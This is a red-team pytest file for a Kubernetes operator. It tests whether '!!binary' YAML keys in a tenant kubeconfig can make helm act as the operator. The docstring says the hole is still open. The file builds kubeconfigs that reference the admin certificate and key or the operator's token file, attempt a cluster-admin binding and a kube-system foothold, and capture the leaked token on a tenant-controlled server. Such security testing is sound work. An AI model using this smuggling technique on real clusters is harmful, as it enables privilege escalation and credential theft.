"""Red team, issue 26: the rows issue 26 added to docs/security.md, attacked as a tenant with the
roles alecton ships (ServiceAccount tokens, never the admin's certificate). Each test PASSES
when the defence holds and FAILS when the attack works.

helmd (`--helm-driver server`, the default): the row promises that a tenant's kubeconfig never
makes helm act with the operator's own identity. The kubeconfig check reads the Secret with
PyYAML, where a `!!binary` key is bytes and so not the `tokenFile` or `client-certificate` it
refuses; client-go's YAML, which helmd (and the CLI) load the same file with, reads that key
as text. Broken at the time of writing: both tests below fail.
"""

from __future__ import annotations

import asyncio
import base64
import ssl
import threading
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest
from alecton.helm.runner import HelmRunner
from alecton.helm.server import use_driver
from alecton.kube.access import KubeAccess, private_file
from alecton.local.pki import CertificateAuthority
from alecton.reconcile.kubeconfig import KubeconfigRefusedError, check_kubeconfig

from tests.integration import resources as r
from tests.integration.harness import TEST_CHARTS, Cluster, OperatorProcess, wait_for
from tests.integration.test_tenancy import message, probe_app, tenant_apply

SUFFIX = uuid.uuid4().hex[:5]


@pytest.fixture(scope="module")
def attacker_ns() -> str:
    return f"rt26-{SUFFIX}"


@pytest.fixture(scope="module")
def redteam_operator(
    crds: Cluster, attacker_ns: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[OperatorProcess]:
    before = crds.namespaces()
    crds.kubectl("create", "namespace", attacker_ns)
    process = OperatorProcess(
        crds,
        "helm",
        tmp_path_factory.mktemp("redteam26"),
        extra_args=(
            f"--namespace={attacker_ns}",
            "--charts-dir",
            str(TEST_CHARTS),
            "--helm-timeout",
            "20",
            # Deny by default, as shipped: the tenant has no grant on the operator's contexts;
            # its only way to cluster b is a kubeconfig of its own.
            "--allow-context",
            f"{attacker_ns}=alecton-b:{attacker_ns}-granted",
        ),
    )
    process.start()
    try:
        wait_for(lambda: "helm driver: server" in process.log_since_start(), 60, "helmd as the driver")
        yield process
        crds.delete_namespaces_since(before)
    finally:
        process.stop()


def _smuggling_kubeconfig(cluster: Cluster, token: str) -> str:
    """Cluster b with its CA embedded, the tenant's own token there (what the operator's
    owner check, a Python client, then uses), and the paths of the operator's own certificate
    and key under `!!binary` keys, which only client-go (helm) reads: the API server takes the
    client certificate before the token. In a pod the same shape names
    /var/run/secrets/kubernetes.io/serviceaccount/token as `tokenFile` (with no `token`)."""
    assert cluster.state_dir is not None
    pki = Path(cluster.state_dir) / "pki"
    target = cluster.target_kubeconfig()
    (entry,) = target["clusters"]
    server = entry["cluster"]["server"]
    ca = entry["cluster"]["certificate-authority-data"]

    def binary(key: str) -> str:
        return "!!binary " + base64.b64encode(key.encode()).decode()

    return f"""apiVersion: v1
kind: Config
current-context: b
clusters:
- name: b
  cluster:
    server: {server}
    certificate-authority-data: {ca}
contexts:
- name: b
  context: {{cluster: b, user: mallory}}
users:
- name: mallory
  user:
    token: {token}
    {binary("client-certificate")}: {pki / "admin.crt"}
    {binary("client-key")}: {pki / "admin.key"}
"""


def test_a_tenant_kubeconfig_never_makes_helmd_act_as_the_operator(
    redteam_operator: OperatorProcess, attacker_ns: str
) -> None:
    cluster = redteam_operator.cluster
    # The tenant's own identity on cluster b, as its platform team made it: `edit` in one
    # namespace there, nothing else.
    own = f"rt26-b-{SUFFIX}"
    cluster.kubectl("create", "namespace", own, context="alecton-b")
    cluster.kubectl("create", "serviceaccount", "mallory", "-n", own, context="alecton-b")
    cluster.kubectl(
        "create", "rolebinding", "mallory-edit", "--clusterrole=edit", f"--serviceaccount={own}:mallory",
        "-n", own, context="alecton-b",
    )  # fmt: skip
    token = cluster.kubectl(
        "create", "token", "mallory", "-n", own, "--duration=1h", context="alecton-b"
    ).stdout.strip()
    binding = f"rt26-admin-{SUFFIX}"
    # What the attacker wants on cluster b: cluster-admin for itself, and a foothold in kube-system.
    escalate = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRoleBinding",
        "metadata": {"name": binding},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "mallory", "namespace": own}],
    }
    foothold = {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": f"rt26-{SUFFIX}", "namespace": "kube-system"},
        "data": {"by": "mallory"},
    }
    name = "smuggle"
    tenant_apply(
        cluster,
        r.kubeconfig_secret(name, _smuggling_kubeconfig(cluster, token)),
        r.cluster(name=name, context="", secret=name),
        probe_app(name, own, cluster=name, values={"extraObjects": [escalate, foothold]}),
        r.image(name, "1", "r/web:1"),
        r.deployment(name, "1"),
        namespace=attacker_ns,
    )

    def settled() -> dict | None:
        obj = cluster.get("deployments.alecton.dev", f"{name}-staging", attacker_ns)
        phase = ((obj or {}).get("status") or {}).get("phase")
        return obj if phase in ("Deployed", "Failed") else None

    try:
        obj = wait_for(settled, 120, "the tenant's Deployment to settle")
        created = cluster.kubectl("get", "clusterrolebinding", binding, context="alecton-b", check=False)
        planted = cluster.kubectl(
            "get", "configmap", f"rt26-{SUFFIX}", "-n", "kube-system", context="alecton-b", check=False
        )
    finally:  # what an attack that worked left outside the namespaces the module deletes
        cluster.kubectl("delete", "clusterrolebinding", binding, "--ignore-not-found", context="alecton-b")
        cluster.kubectl(
            "delete", "configmap", f"rt26-{SUFFIX}", "-n", "kube-system", "--ignore-not-found",
            context="alecton-b",
        )  # fmt: skip
    assert created.returncode != 0 and "NotFound" in created.stderr, (
        f"the tenant's chart ran as the operator: ClusterRoleBinding {binding} (cluster-admin) exists on "
        f"cluster b; Deployment {obj['status']['phase']}: {message(obj)}"
    )
    assert planted.returncode != 0, "the tenant wrote a ConfigMap into kube-system of cluster b"
    assert obj["status"]["phase"] == "Failed" and "refused" in message(obj), message(obj)


class TenantServer:
    """The tenant's own HTTPS "API server" (its CA in the kubeconfig, as a tenant may give):
    it writes down the credentials each request brings and refuses it. With `challenge` (a
    `WWW-Authenticate` value) it answers 401 asking for a login, as a tenant's registry
    would to be sent one; else 403."""

    def __init__(self, workdir: Path, challenge: str = "") -> None:
        # A name of its own: beside the local CA in one bundle, OpenSSL picks an issuer by name.
        self.ca = CertificateAuthority("tenant-ca")
        serving = self.ca.serving("tenant")
        (workdir / "tls.crt").write_bytes(serving.cert_pem)
        (workdir / "tls.key").write_bytes(serving.key_pem)
        self.authorizations: list[str] = []
        seen = self.authorizations

        class Handler(BaseHTTPRequestHandler):
            def refuse(self) -> None:
                seen.append(self.headers.get("Authorization") or "")
                self.send_response(401 if challenge else 403)
                if challenge:
                    self.send_header("WWW-Authenticate", challenge)
                self.send_header("Content-Type", "application/json")
                self.end_headers()

            def do_GET(self) -> None:
                self.refuse()
                self.wfile.write(b'{"kind":"Status","apiVersion":"v1","status":"Failure","code":403}')

            def do_HEAD(self) -> None:  # a registry client resolves a tag with HEAD first
                self.refuse()

            def log_message(self, *_args: Any) -> None:
                pass

        self.server = HTTPServer(("127.0.0.1", 0), Handler)
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        tls.load_cert_chain(workdir / "tls.crt", workdir / "tls.key")
        self.server.socket = tls.wrap_socket(self.server.socket, server_side=True)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"https://127.0.0.1:{self.server.server_port}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_helmd_never_sends_the_operators_token_to_a_tenants_server(bin_dir: Path, tmp_path: Path) -> None:
    """The operator's path without a cluster: its kubeconfig check, then helm through the
    runner with the server driver (the real helmd), as for any tenant Secret. The tenant's
    kubeconfig names the operator's mounted ServiceAccount token (here a file standing for
    /var/run/secrets/kubernetes.io/serviceaccount/token) under a `!!binary` key."""
    operator_token = tmp_path / "token"
    operator_token.write_text(f"operator-token-{SUFFIX}")
    server = TenantServer(tmp_path)
    tag = "!!binary " + base64.b64encode(b"tokenFile").decode()
    raw = f"""apiVersion: v1
kind: Config
current-context: c
clusters:
- name: k
  cluster:
    server: {server.url}
    certificate-authority-data: {base64.b64encode(server.ca.cert_pem).decode()}
contexts:
- name: c
  context: {{cluster: k, user: u}}
users:
- name: u
  user:
    {tag}: {operator_token}
""".encode()

    async def as_the_operator_runs_helm() -> str:
        try:
            target = check_kubeconfig(raw)
        except KubeconfigRefusedError as refused:
            return f"refused: {refused}"
        runner = HelmRunner(str(bin_dir / "helm"), timeout=20)
        assert await use_driver(runner, "server") == "server"
        try:
            with private_file(target.checked, ".kubeconfig") as path:  # as handlers/access.py
                access = KubeAccess(str(path), target.context, tenant_secret=True)
                args = ["history", *access.args(), "--namespace", "x", "--output", "json", "--", "r"]
                result = await runner.run(args, in_cluster=not access.kubeconfig)
            return result.stderr
        finally:
            await runner.stop_all()

    try:
        answer = asyncio.run(as_the_operator_runs_helm())
    finally:
        server.close()
    leaked = [a for a in server.authorizations if operator_token.read_text() in a]
    assert not leaked, f"helmd sent the operator's token to the tenant's server ({answer.strip()})"
